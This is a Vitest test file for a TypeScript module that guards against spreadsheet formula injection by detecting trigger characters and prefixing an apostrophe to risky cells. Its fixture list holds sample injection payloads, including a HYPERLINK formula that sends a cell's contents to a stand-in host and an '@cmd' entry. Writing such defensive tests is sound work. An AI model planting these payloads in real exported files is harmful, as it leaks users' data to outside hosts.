import { describe, expect, it } from "vitest";
import {
  FORMULA_TRIGGER_CHARACTERS,
  isNumericText,
  neutraliseFormula,
  neutraliseFormulaUnlessNumeric,
  restoreFormulaText,
  startsLikeFormula,
} from "./formula-injection";

const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
  "+SUM(A1)\n第二行, 带逗号",
  '@cmd "quoted"',
  "@SUM(A1)",
  "-1+2",
  "+86 电话",
  "\tTab",
  "\rcell",
];

describe("startsLikeFormula", () => {
  it.each(FORMULAS)("is true for %j", (text) => {
    expect(startsLikeFormula(text)).toBe(true);
  });

  it.each(["", "plain", "safe=1", "示范区", " =1", "'=1+1", "\n=1", "3-2"])("is false for %j", (text) => {
    expect(startsLikeFormula(text)).toBe(false);
  });

  it("uses exactly the characters it lists", () => {
    expect(FORMULA_TRIGGER_CHARACTERS).toEqual(["=", "+", "-", "@", "\t", "\r"]);
    for (const char of FORMULA_TRIGGER_CHARACTERS) expect(startsLikeFormula(`${char}x`)).toBe(true);
    for (let code = 0; code < 128; code++) {
      const char = String.fromCharCode(code);
      if (!(FORMULA_TRIGGER_CHARACTERS as readonly string[]).includes(char)) {
        expect(startsLikeFormula(`${char}x`), JSON.stringify(char)).toBe(false);
      }
    }
  });
});

describe("isNumericText", () => {
  it.each(["0", "-3.2", "+5", ".5", "5.", "1929.50", "1e3", "-2.5E-4", "123456789012.3456", "0.001"])(
    "is true for %j",
    (text) => {
      expect(isNumericText(text)).toBe(true);
    },
  );

  it.each(["", "NaN", "Infinity", "-Infinity", "1,000", " 1", "1 ", "-", ".", "1e", "--1", "-1+2", "0x10"])(
    "is false for %j",
    (text) => {
      expect(isNumericText(text)).toBe(false);
    },
  );
});

describe("neutraliseFormula (text cells)", () => {
  it.each(FORMULAS)("prefixes ' to %j", (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it("prefixes numeric-looking text too: in a text column it stays text", () => {
    expect(neutraliseFormula("-3.5")).toBe("'-3.5");
    expect(neutraliseFormula("+5")).toBe("'+5");
  });

  it.each(["", "plain", "safe=1", "3.5", "'=1+1", "第一行\n第二行"])("leaves %j as it is", (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });
});

describe("neutraliseFormulaUnlessNumeric (cells that may hold a number)", () => {
  it.each(["-3.2", "+5", "-2.5E-4", "1929.50", "0"])("writes the number %j as it is", (text) => {
    expect(neutraliseFormulaUnlessNumeric(text)).toBe(text);
  });

  it.each([...FORMULAS, "-Infinity", "-NaN"])("prefixes ' to %j", (text) => {
    expect(neutraliseFormulaUnlessNumeric(text)).toBe(`'${text}`);
  });

  it.each(["NaN", "Infinity", "plain", ""])("leaves %j as it is", (text) => {
    expect(neutraliseFormulaUnlessNumeric(text)).toBe(text);
  });
});

describe("restoreFormulaText", () => {
  it.each(FORMULAS)("gives back %j after neutraliseFormula", (text) => {
    expect(restoreFormulaText(neutraliseFormula(text))).toBe(text);
  });

  it.each(["'plain", "'", "''=1", "it's =1", "plain", ""])("leaves %j as it is", (text) => {
    expect(restoreFormulaText(text)).toBe(text);
  });
});
